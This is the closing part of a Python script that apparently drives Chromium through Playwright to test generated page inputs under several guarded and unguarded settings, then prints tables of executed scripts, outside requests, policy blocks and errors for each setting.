    found.put, found.blocked = found.put + told["put"], found.blocked + told["blocked"]
    found.broke.update(told["broke"])
    for n, place in book.made.items():
        found.offered[place] += 1
        if book.grammar.made[n].words in told["words"]:
            found.places[place] += 1
        else:
            del book.grammar.made[n]  # no power, and no proof, in what the page was not asked to show
    found.texts = sum(found.places.values())
    known = set(book.shown.values())
    found.shown += len(seen)
    found.wrong += sum(one not in known for one in seen) if setting in GUARDED else 0
    found.fired |= numbers


def main() -> None:
    """Print what happened."""
    from playwright.sync_api import sync_playwright

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--texts", type=int, default=100_000)
    parser.add_argument(
        "--power", type=int, default=4_000, help="texts in the settings without escaping and types"
    )
    parser.add_argument("--settings", nargs="+", choices=SETTINGS, default=SETTINGS)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    heads = "texts scripts outside elements errors wrong shown put blocked seconds"
    print(f"{'setting':10} " + " ".join(f"{head:>8}" for head in heads.split()))
    with sync_playwright() as playwright:
        for setting in args.settings:
            trap = Trap()
            with chromium(playwright, trap) as browser:
                n = args.texts if setting in GUARDED else min(args.texts, args.power)
                size = {"items": 100, "each": 100} if n > 20_000 else {}
                f = tried(browser, trap, setting, n, args.seed, **size)
            counts = (
                f.texts,
                f.scripts,
                f.outside,
                f.elements,
                len(f.errors),
                f.wrong,
                f.shown,
                f.put,
                f.blocked,
            )
            row = " ".join(f"{n:>8}" for n in (*counts, round(f.seconds)))
            print(f"{setting:10} {row}", flush=True)
            print("   places:", ", ".join(f"{k} {f.places[k]}/{v}" for k, v in f.offered.most_common()))
            if f.broke:
                print("   stopped by the policy:", dict(f.broke.most_common()))
            for one in Counter(f.errors).most_common(5):
                print("   error:", one)
            if setting not in GUARDED:
                print(f"   could have run: {sum(f.could.values())}, did: {f.power:.1%}")
                some = {k: f"{f.ran[k]}/{n}" for k, n in f.could.items() if 0 < f.ran[k] < n or f.ran[k]}
                print("   of these kinds:", some if f.power < 0.5 else "all but a few of each")


if __name__ == "__main__":
    main()
